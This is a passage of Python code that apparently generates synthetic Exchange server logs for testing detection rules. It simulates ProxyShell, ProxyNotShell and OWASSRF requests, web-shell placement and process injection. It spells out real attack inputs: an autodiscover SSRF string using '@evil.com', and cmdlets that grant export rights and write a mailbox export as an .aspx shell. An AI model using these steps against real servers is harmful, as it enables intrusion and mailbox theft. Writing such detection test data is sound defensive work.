                    be_query=query.split("?", 1)[1].split("&Email")[0] if ps else "",
                    be_user=be_user,
                )
                refs = self._req(t, req)
                self.trace(
                    refs.fe,
                    fam,
                    rule,
                    t,
                    "/autodiscover/autodiscover.json",
                    f"ProxyShell autodiscover.json path confusion to {be_stem} ({status})",
                    also=(refs.hp,),
                )
                if ps and status == 200:
                    self.trace(
                        refs.fe,
                        fam,
                        "proxynotshell-autodiscover-powershell",
                        t,
                        "/powershell",
                        "autodiscover.json + @ + powershell answered 200",
                        required=False,
                        also=(refs.hp,),
                    )
                if refs.be is not None and not ps:
                    self.trace(
                        refs.be,
                        fam,
                        "ssrf-machine-account-backend",
                        t,
                        f"{w.host}$",
                        "back end reached as the machine account",
                        required=False,
                    )

            self.at(t, run)
        target = "luifdecggoqmansn"
        cmdlets = [
            (
                120_000,
                "New-ManagementRoleAssignment",
                '-Role "Mailbox Import Export" -User "Administrator"',
                "cmdlet-export-role-assignment",
                "Mailbox Import Export",
            ),
            (
                185_000,
                "New-MailboxExportRequest",
                f'-Mailbox "Administrator" -IncludeFolders "#Drafts#" -ContentFilter "(Subject -eq \'{target}\')" '
                f'-FilePath "\\\\127.0.0.1\\C$\\inetpub\\wwwroot\\aspnet_client\\{target}.aspx"',
                "cmdlet-mailbox-export",
                "New-MailboxExportRequest",
            ),
            (
                330_000,
                "Remove-MailboxExportRequest",
                '-Identity "Administrator\\MailboxExport" -Confirm "False"',
                "cmdlet-remove-export-request",
                "Remove-MailboxExportRequest",
            ),
        ]
        for dt, name, params, rule, marker in cmdlets:
            t = t0 + dt

            def run_c(
                t: int = t, name: str = name, params: str = params, rule: str = rule, marker: str = marker
            ) -> None:
                ev = w.event(
                    "msexchange-management",
                    t,
                    we.cmdlet(
                        t,
                        name=name,
                        params=params,
                        caller=self.admin_nt,
                        caller_sid=self.admin_sid,
                        app="ServerRemoteHost-PowerShell",
                        pid=5120,
                    ),
                    ref=True,
                )
                self.trace(
                    ev,
                    fam,
                    rule,
                    t,
                    marker,
                    f"{name} through the ProxyShell PowerShell session",
                )
                if name == "New-MailboxExportRequest":  # the mailbox theft ledger (synth/theft.py)
                    theft.record(w, "administrator", "export-cmdlet", self.admin_nt, "", t, name)

            self.at(t, run_c)
        t_file = t0 + 241_000

        def pst() -> None:
            target_path = f"C:\\inetpub\\wwwroot\\aspnet_client\\{target}.aspx"
            ev = w.event(
                "sysmon",
                t_file,
                we.sysmon_file(
                    t_file,
                    self.ids,
                    image=f"{INSTALL_DIR}\\Bin\\MSExchangeMailboxReplication.exe",
                    pid=3712,
                    target=target_path,
                ),
                ref=True,
            )
            self.trace(
                ev,
                fam,
                "file-event-webshell-write",
                t_file,
                f"{target}.aspx",
                "Sysmon 11: mailbox replication service writes the exported PST as .aspx",
                required=False,
            )
            rel = f"{fl.ASPNET_CLIENT}/{target}.aspx"
            self._file(
                fam,
                rel,
                fl.pst_shell(),
                t_file,
                "file-webshell-pst-or-certreq",
                "!BDN",
                "PST-format web shell from New-MailboxExportRequest",
            )
            self.trace(
                None,
                fam,
                "file-webshell-location",
                t_file,
                "!BDN",
                ".aspx directly under aspnet_client",
                required=False,
                path=f"{w.host}/{rel}",
            )

        self.at(t_file, pst)
        t_use = t0 + 420_000
        self.at(
            t_use,
            lambda: self._shell_post(t_use, fam, f"/aspnet_client/{target}.aspx", required=False, ua=ua, ip=PS_IP),
        )

    # ---- ProxyNotShell ---------------------------------------------------------------------------
    def _proxynotshell(self, d: int) -> None:
        fam = "proxynotshell"
        users = self.pop.users
        victim = users[len(users) * 2 // 3]
        email = "&Email=autodiscover/autodiscover.json%3f@evil.com"
        t0 = d + 12 * HOUR_MS + 31 * 60_000 + 5_020
        ua = "python-requests/2.28.1"
        for i, method in enumerate(("GET", "POST", "POST", "POST")):
            t = t0 + i * 2_700
            q = f"@evil.com/powershell/?serializationLevel=Full;clientApplication=PowerShell;PSVersion=5.1{email}"

            def run(t: int = t, method: str = method, q: str = q) -> None:
                req = Req(
                    method,
                    "/autodiscover/autodiscover.json",
                    q,
                    PNS_IP,
                    ua,
                    victim.upn,
                    proto="Autodiscover",
                    hp_user=victim.upn,
                    auth="Basic",
                    anchor=f"Sid~{victim.sid}",
                    hint="WindowsIdentity",
                    be_stem="/powershell",
                    be_query="serializationLevel=Full;clientApplication=PowerShell;PSVersion=5.1",
                    be_user=victim.nt,
                )
                refs = self._req(t, req)
                self.trace(
                    refs.fe,
                    fam,
                    "proxynotshell-autodiscover-powershell",
                    t,
                    "@evil.com/powershell/",
                    "ProxyNotShell: authenticated autodiscover.json SSRF to /powershell answered 200",
                    also=(refs.hp,),
                )
                self.trace(
                    refs.fe,
                    fam,
                    "proxyshell-autodiscover-success",
                    t,
                    "autodiscover.json",
                    "same request matches the ProxyShell success pattern",
                    required=False,
                    also=(refs.hp,),
                )

            self.at(t, run)
        t_f = t0 + 3 * 60_000 + 44_000
        self.at(
            t_f,
            lambda: self._file(
                fam,
                f"{fl.OWA_AUTH}/pxh4HG1v.ashx",
                fl.inert_ashx("Pxh4HG1v", "named after a GTSC ProxyNotShell IOC"),
                t_f,
                "file-webshell-location",
                "WebHandler",
                "non-standard handler in owa\\auth",
            ),
        )

    # ---- OWASSRF -----------------------------------------------------------------------------------
    def _owassrf(self, d: int) -> None:
        fam = "owassrf"
        users = self.pop.users
        victim = users[len(users) // 2]
        t0 = d + 20 * HOUR_MS + 14 * 60_000 + 10_400
        session = self.ids.guid()
        cmds = (
            "New-PSSession:Receive",
            "Get-Mailbox:Command",
            "New-MailboxExportRequest:Command",
            "Remove-PSSession:Delete",
        )
        for i, action in enumerate(cmds):
            t = t0 + i * 4_100

            def run(t: int = t, action: str = action) -> None:
                req = Req(
                    "POST",
                    "/owa/mastermailbox%40outlook.com/powershell",
                    "",
                    OWASSRF_IP,
                    OWASSRF_UA,
                    victim.upn,
                    proto="PowerShell",
                    hp_stem="/owa/mastermailbox@outlook.com/powershell",
                    hp_user=victim.upn,
                    auth="Kerberos",
                    anchor=f"Sid~{victim.sid}",
                    hint="CommonAccessToken-Windows",
                    action=action,
                    be_stem="/powershell",
                    be_user=victim.nt,
                    rps={
                        "ClientInfo": OWASSRF_UA,
                        "UrlStem": "/PowerShell/",
                        "Action": action.split(":")[-1],
                        "CommandName": action.split(":")[0],
                        "SessionId": session,
                        "ShellId": session,
                        "CommandId": self.ids.guid(),
                    },
                )
                refs = self._req(t, req)
                self.trace(
                    refs.fe,
                    fam,
                    "owassrf-owa-powershell",
                    t,
                    "/owa/mastermailbox%40outlook.com/powershell",
                    "OWASSRF: POST to /owa/<mailbox>/powershell answered 200",
                    also=(refs.hp,),
                )
                self.trace(
                    refs.rps,
                    fam,
                    "owassrf-rps-browser-client",
                    t,
                    "Chrome/105.0.5195.54",
                    "Rps_Http: browser user agent as ClientInfo, status 200",
                )

            self.at(t, run)

    # ---- web shells ------------------------------------------------------------------------------
    def _webshells(self, d: int) -> None:
        fam = "webshells"
        t = d + 13 * HOUR_MS + 7 * 60_000 + 19_000
        self.at(
            t,
            lambda: self._file(
                fam,
                f"{fl.ECP_AUTH}/OutlookEN.aspx",
                fl.inert_aspx("non-standard page in ecp\\auth"),
                t,
                "file-webshell-location",
                "Page_Load",
                "non-standard .aspx in ecp\\auth",
            ),
        )
        t2 = t + 5 * 60_000
        self.at(
            t2,
            lambda: self._file(
                fam,
                f"{fl.OWA_AUTH}/Current/themes/resources/win.ashx",
                fl.inert_ashx("Win", "handler under owa\\auth\\Current"),
                t2,
                "file-webshell-location",
                "WebHandler",
                "handler under owa\\auth\\Current",
            ),
        )
        t3 = t + 9 * 60_000

        def der() -> None:
            rel = f"{fl.ASPNET_CLIENT}/689193944.aspx"
            self._file(
                fam,
                rel,
                fl.certreq_shell(),
                t3,
                "file-webshell-pst-or-certreq",
                "runat=",
                "DER certificate request saved as .aspx (ProxyShell variant)",
            )
            self.trace(
                None,
                fam,
                "file-webshell-location",
                t3,
                "runat=",
                ".aspx directly under aspnet_client",
                required=False,
                path=f"{self.w.host}/{rel}",
            )

        self.at(t3, der)
        self._webshell_join(t + 20 * 60_000)

    def _webshell_join(self, t: int) -> None:
        """A shell copied in over the admin share (writer `System`) and never requested; a shell outside
        the folders the path rules know, requested; a request answered 200 for a shell that is gone; and
        a web worker that starts notepad.exe and injects a thread into it."""
        fam = "webshells"
        w = self.w
        dormant = f"{fl.ASPNET_CLIENT}/system_web/4_0_30319/errorPage.aspx"
        win_dormant = "C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\4_0_30319\\errorPage.aspx"

        def plant_dormant() -> None:
            ev = w.event("sysmon", t, we.sysmon_file(t, self.ids, image="System", pid=4, target=win_dormant), ref=True)
            self.trace(ev, fam, "file-event-webshell-write", t, "errorPage.aspx",
                       "Sysmon 11: System writes a shell into aspnet_client (copied over the admin share)")  # fmt: skip
            self._file(fam, dormant, fl.LOADER_SHAPE, t, "webshell-dormant", "in-memory loader",
                       "assembly-loader shell in aspnet_client, never requested")  # fmt: skip
            for rule in ("file-webshell-content", "file-webshell-location"):
                self.trace(None, fam, rule, t, "in-memory loader", "assembly-loader shell in aspnet_client",
                           path=f"{w.host}/{dormant}")  # fmt: skip

        self.at(t, plant_dormant)
        t2 = t + 4 * 60_000
        outside = "C/inetpub/wwwroot/iiserror.aspx"

        def plant_outside() -> None:
            self._file(fam, outside, fl.COMMAND_SHAPE, t2, "file-webshell-content", "shape of a command page",
                       "command page in the IIS root, outside the web-shell folders")  # fmt: skip

        self.at(t2, plant_outside)
        for i in range(3):
            tr = t2 + HOUR_MS + i * 41_000

            def use(tr: int = tr, first: bool = i == 0) -> None:
                req = Req("POST", "/iiserror.aspx", "", PL_SHELL_IP, SHELL_UA, "", cafe=False, lat="normal")
                refs = self._req(tr, req)
                self.trace(refs.fe, fam, "webshell-request", tr, "POST /iiserror.aspx",
                           "request to the command page in the IIS root", required=first)  # fmt: skip

            self.at(tr, use)
        t3 = t2 + 2 * HOUR_MS

        def probe() -> None:
            req = Req("POST", "/owa/auth/gone.aspx", "", PL_SHELL_IP, SHELL_UA, "", cafe=False, lat="normal")
            refs = self._req(t3, req)
            self.trace(refs.fe, fam, "webshell-probe-missing", t3, "POST /owa/auth/gone.aspx",
                       "200 for a script in owa\\auth that is not on disk (a removed shell)")  # fmt: skip
            self.trace(refs.fe, fam, "webshell-access", t3, "POST /owa/auth/gone.aspx",
                       "200 for a non-standard page in owa\\auth", required=False)  # fmt: skip

        self.at(t3, probe)
        t4 = t3 + 3 * 60_000
        pool = "MSExchangeOWAAppPool"
        w3 = pool_pid(pool, self.tl.build_switch is not None and t4 >= self.tl.build_switch)
        notepad = "C:\\Windows\\System32\\notepad.exe"
        pid = 6000 + self.rng.randrange(2000) * 4

        def migrate() -> None:
            self._child(t4, fam, notepad, notepad, w3, we.w3wp_cmdline(pool), "process-webserver-shell", "notepad.exe",
                        "w3wp starts notepad.exe (a process to migrate into)", parent_image=we.W3WP,
                        product="Microsoft® Windows® Operating System", company="Microsoft Corporation")  # fmt: skip
            ev = w.event("sysmon", t4 + 900, we.sysmon_remote_thread(
                t4 + 900, self.ids, source=we.W3WP, source_pid=w3, target=notepad, target_pid=pid,
                start="0x1E4A0000"), ref=True)  # fmt: skip
            self.trace(ev, fam, "process-webworker-access", t4 + 900, "CreateRemoteThread",
                       "Sysmon 8: w3wp starts a thread in notepad.exe (payload migration)")  # fmt: skip

        self.at(t4, migrate)
